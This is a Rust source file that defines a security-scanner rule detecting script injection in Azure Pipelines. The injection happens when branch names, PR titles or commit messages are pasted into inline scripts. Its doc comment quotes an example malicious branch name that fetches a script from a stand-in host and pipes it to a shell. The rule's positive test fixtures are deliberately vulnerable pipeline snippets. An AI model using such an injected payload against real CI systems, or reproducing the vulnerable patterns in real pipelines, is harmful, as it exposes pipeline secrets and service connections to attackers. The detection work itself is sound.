//! `iac.azure-pipelines.script-injection`: a value chosen by a pull request
//! author is pasted into an inline script.
//!
//! Macros (`$(Build.SourceBranchName)`) and template expressions
//! (`${{ variables['Build.SourceBranch'] }}`) are replaced in the script's
//! text before the shell runs it, so a branch name such as
//! `a;curl${IFS}evil.sh|sh` or a commit message becomes code.

use palisade_domain::{RuleMatch, Severity, StaticRule};

use crate::azure::Pipeline;
use crate::rules::report_at;
use crate::text::{pr_controlled_variable, variable_references};

pub(crate) static RULE: StaticRule = StaticRule {
    id: "iac.azure-pipelines.script-injection",
    name: "Inline script interpolates a value controlled by a pull request author",
    severity: Severity::High,
    framework: "azure-pipelines",
    checkov: &[],
    description: "Source branch names, pull request titles and commit messages are chosen by whoever opens the pull request or pushes the branch. Pasted into a script with a macro or template expression, they run as commands on the agent with the pipeline's identity, secrets and service connections.",
    remediation: "Map the value to an environment variable (`env: { BRANCH: $(Build.SourceBranchName) }`) and read it quoted in the script (`\"$BRANCH\"`, `$env:BRANCH`), or validate it first.",
    references: &[
        "https://learn.microsoft.com/azure/devops/pipelines/security/inputs",
        "https://learn.microsoft.com/azure/devops/pipelines/build/variables",
    ],
    example_path: "azure-pipelines.yml",
    positive: &[
        r#"trigger:
- main
pr:
- main
pool:
  vmImage: ubuntu-latest
steps:
- checkout: self
- script: |
    echo "Building branch"
    ./build.sh --tag "$(Build.SourceBranchName)"
  displayName: Build
"#,
        r#"jobs:
- job: notify
  steps:
  - pwsh: |
      Write-Host "Commit: ${{ variables['Build.SourceVersionMessage'] }}"
  - task: Bash@3
    inputs:
      targetType: inline
      script: echo "PR from $(System.PullRequest.SourceBranch)"
"#,
    ],
    negative: &[
        r#"trigger:
- main
steps:
- script: ./build.sh --tag "$BRANCH" --pr "$(System.PullRequest.PullRequestId)"
  env:
    BRANCH: $(Build.SourceBranchName)
- bash: echo "$BUILD_SOURCEVERSIONMESSAGE"
"#,
        r"steps:
- task: DotNetCoreCLI@2
  inputs:
    command: build
    arguments: --configuration $(buildConfiguration)
",
    ],
};

pub(crate) fn check(p: &Pipeline<'_>, out: &mut Vec<RuleMatch>) {
    for step in p.steps() {
        for script in step.inline_scripts() {
            let Some(text) = script.as_str() else { continue };
            for (written, name) in variable_references(text) {
                if pr_controlled_variable(name) {
                    report_at(
                        out,
                        &RULE,
                        script.position_of(p.source, written),
                        format!("{}: {name}", step.subject),
                    );
                }
            }
        }
    }
}
